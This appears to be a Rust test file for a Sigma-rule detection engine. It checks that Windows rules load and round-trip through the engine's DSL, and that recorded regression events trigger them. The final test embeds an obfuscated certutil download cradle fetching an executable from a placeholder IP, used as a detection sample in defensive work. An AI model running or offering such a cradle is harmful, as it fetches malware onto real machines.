//! SigmaHQ's Windows rules load into the engine, every loaded rule prints as
//! DSL and parses back to the same ast, and the recorded regression events
//! fire the rules they were recorded for.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use landwatch::{sigma, Rules, RulesBuilder, Scanner};

const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpus");

#[path = "support/yaml_files.rs"]
mod yaml_files;
use yaml_files::yaml_files;

/// Rules loaded from corpus folders, by id (with their titles).
struct Loaded {
    rules: Arc<Rules>,
    titles: BTreeMap<String, String>,
}

/// Loads the folders (relative to the corpus's `sigma/`), checking that each
/// rule survives `convert`; returns the rules and, per folder, the loaded and
/// rejected counts (the rejection reasons are printed).
fn load(folders: &[&str]) -> (Loaded, Vec<(usize, usize)>) {
    load_with(folders, &sigma::Options::default())
}

fn load_with(folders: &[&str], options: &sigma::Options) -> (Loaded, Vec<(usize, usize)>) {
    let mut builder = RulesBuilder::new();
    let mut titles = BTreeMap::new();
    let mut counts = Vec::new();
    for sub in folders {
        let files = yaml_files(&Path::new(CORPUS).join("sigma").join(sub));
        let (mut loaded, mut rejected) = (0, 0);
        let mut reasons: BTreeMap<String, usize> = BTreeMap::new();
        for f in &files {
            let text = std::fs::read_to_string(f).unwrap();
            let l = sigma::load_with(&f.display().to_string(), &text, options);
            rejected += l.rejected.len();
            for r in &l.rejected {
                *reasons.entry(r.reason.chars().take(60).collect()).or_default() += 1;
            }
            for (rule, origin) in l.rules {
                loaded += 1;
                // `landwatch convert`: the DSL text of a Sigma rule parses back to the same ast.
                let printed = landwatch::dsl::print_rule(&rule);
                let back = landwatch::dsl::parse("converted.lw", &printed)
                    .unwrap_or_else(|e| panic!("{}: converted rule does not parse: {e}\n{printed}", f.display()));
                assert_eq!(back.rules[0].0, rule, "{}: round trip differs\n{printed}", f.display());
                titles.insert(rule.id.clone(), rule.title.clone());
                builder = builder.add_rule(rule, origin);
            }
        }
        eprintln!("{sub}: {loaded} of {} rules loaded", loaded + rejected);
        for (reason, n) in &reasons {
            eprintln!("  {n:4} rejected: {reason}");
        }
        counts.push((loaded, rejected));
    }
    let rules = Arc::new(builder.build().unwrap_or_else(|e| panic!("{e}")));
    (Loaded { rules, titles }, counts)
}

/// Where the regression events are: flattened JSON Lines, or the `evtx`
/// crate's nested rendering of the original records.
#[derive(Clone, Copy)]
enum Shape {
    Flat,
    Evtx,
}

/// The events of one case, one JSON object each. The nested files hold
/// several concatenated objects.
fn case_events(shape: Shape, path: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(path).unwrap();
    match shape {
        Shape::Flat => text.lines().filter(|l| !l.trim().is_empty()).map(String::from).collect(),
        Shape::Evtx => serde_json::Deserializer::from_str(&text)
            .into_iter::<serde_json::Value>()
            .map(|v| v.unwrap().to_string())
            .collect(),
    }
}

include!("support/regression_exceptions.rs");

/// Scans each regression case whose rule loaded (and whose rule path passes
/// `keep`); returns the number of cases and the ones that fired on the wrong number
/// of events (exactly `match_count` where given, at least one otherwise).
fn regression(loaded: &Loaded, keep: impl Fn(&str) -> bool) -> (usize, Vec<String>) {
    regression_in(loaded, Shape::Flat, keep)
}

fn regression_in(loaded: &Loaded, shape: Shape, keep: impl Fn(&str) -> bool) -> (usize, Vec<String>) {
    let dir = match shape {
        Shape::Flat => Path::new(CORPUS).join("sigma-regression"),
        Shape::Evtx => Path::new(CORPUS).join("sigma"),
    };
    let manifest_name = match shape {
        Shape::Flat => "manifest.jsonl",
        Shape::Evtx => "regression_manifest.jsonl",
    };
    let manifest = std::fs::read_to_string(dir.join(manifest_name)).unwrap();
    let (mut cases, mut failed) = (0, Vec::new());
    for line in manifest.lines() {
        let m: serde_json::Value = serde_json::from_str(line).unwrap();
        let id = format!("sigma.{}", m["rule_id"].as_str().unwrap());
        if !loaded.titles.contains_key(&id) || !keep(m["rule_path"].as_str().unwrap_or("")) {
            continue;
        }
        cases += 1;
        let events = case_events(shape, &dir.join(m["events"].as_str().unwrap()));
        let mut scanner = Scanner::new(loaded.rules.clone());
        let hits = events
            .iter()
            .filter(|ev| scanner.scan_json(ev.as_bytes()).unwrap().iter().any(|d| d.rule == id))
            .count() as u64;
        if !fires_as_recorded(m["rule_path"].as_str().unwrap_or(""), m["match_count"].as_u64(), hits) {
            failed.push(format!("{id} ({}): fired on {hits}, want {}", loaded.titles[&id], m["match_count"]));
        }
    }
    for f in &failed {
        eprintln!("  missed: {f}");
    }
    (cases, failed)
}

fn corpus_present() -> bool {
    let root = Path::new(CORPUS).join("sigma");
    if !root.is_dir() {
        eprintln!("skipping: Sigma corpus not found at {} (../shared/corpus/sigma)", root.display());
    }
    root.is_dir()
}

#[test]
fn process_creation_rules_load_and_regression_events_fire() {
    if !corpus_present() {
        return;
    }
    let (loaded, counts) = load(&["rules/windows/process_creation"]);
    let (ok, rejected) = counts[0];
    // The issue's target: at least 99% load.
    assert!(ok * 100 >= (ok + rejected) * 99, "only {ok} of {} loaded", ok + rejected);
    let (cases, failed) = regression(&loaded, |path| path.contains("process_creation"));
    eprintln!("regression: {} of {cases} process_creation cases fire", cases - failed.len());
    assert!(cases >= 100, "only {cases} regression cases had a loaded rule");
    assert!(failed.is_empty(), "{} of {cases} cases missed", failed.len());
}

/// Every Windows rule folder of the corpus, and every regression case whose
/// rule loads: the rule fires on its recorded events.
#[test]
fn windows_rules_load_and_every_regression_case_fires() {
    if !corpus_present() {
        return;
    }
    let (loaded, counts) = load(&["rules/windows", "rules-emerging-threats", "rules-threat-hunting/windows"]);
    let (ok, rejected) = counts[0];
    assert!(ok * 100 >= (ok + rejected) * 97, "rules/windows: {ok} loaded, {rejected} rejected");
    let (cases, failed) = regression(&loaded, |_| true);
    eprintln!("regression: {} of {cases} cases fire", cases - failed.len());
    assert!(cases >= 190, "only {cases} regression cases had a loaded rule");
    assert!(failed.is_empty(), "{} of {cases} cases missed", failed.len());

    // The same cases from the evtx crate's nested JSON (the `evtx` schema, auto-detected).
    let (cases, failed) = regression_in(&loaded, Shape::Evtx, |_| true);
    eprintln!("regression (nested evtx JSON): {} of {cases} cases fire", cases - failed.len());
    assert!(cases >= 190, "only {cases} nested regression cases had a loaded rule");
    assert!(failed.is_empty(), "{} of {cases} nested cases missed", failed.len());
}

/// `--normalize`: every detection Sigma's raw semantics give is still there
/// (filters stay raw), obfuscated command lines are found too, and what it
/// adds on the regression events is printed.
#[test]
fn normalize_keeps_every_raw_detection_and_finds_obfuscated_lines() {
    if !corpus_present() {
        return;
    }
    let folders = ["rules/windows/process_creation"];
    let (raw, _) = load(&folders);
    let options = sigma::Options { normalize: true, ..Default::default() };
    let (normal, counts) = load_with(&folders, &options);
    assert_eq!(counts[0].1, load(&folders).1[0].1, "normalize must not change what loads");
    let manifest = std::fs::read_to_string(Path::new(CORPUS).join("sigma-regression/manifest.jsonl")).unwrap();
    let (mut events, mut before, mut after) = (0, 0, 0);
    let mut s_raw = Scanner::new(raw.rules.clone());
    let mut s_normal = Scanner::new(normal.rules.clone());
    for line in manifest.lines() {
        let m: serde_json::Value = serde_json::from_str(line).unwrap();
        let path = Path::new(CORPUS).join("sigma-regression").join(m["events"].as_str().unwrap());
        for ev in case_events(Shape::Flat, &path) {
            events += 1;
            let a: Vec<String> = s_raw.scan_json(ev.as_bytes()).unwrap().into_iter().map(|d| d.rule).collect();
            let b: Vec<String> = s_normal.scan_json(ev.as_bytes()).unwrap().into_iter().map(|d| d.rule).collect();
            for r in &a {
                assert!(b.contains(r), "{r} fires raw but not normalized on {ev}");
            }
            before += a.len();
            after += b.len();
        }
    }
    eprintln!("normalize: {events} regression events, {before} detections raw, {after} normalized");
    // An obfuscated download cradle: carets, a quoted option and an en dash.
    let obfuscated = r#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"c^ertutil \u2013url^cache -f http://203.0.113.9/a.exe a.exe","ParentImage":"C:\\Windows\\System32\\cmd.exe"}"#;
    let fired = |s: &mut Scanner| s.scan_json(obfuscated.as_bytes()).unwrap().len();
    let (a, b) = (fired(&mut s_raw), fired(&mut s_normal));
    eprintln!("normalize: obfuscated certutil cradle fires {a} rules raw, {b} normalized");
    assert!(b > a, "normalize finds nothing more on an obfuscated line ({a} raw, {b} normalized)");
}
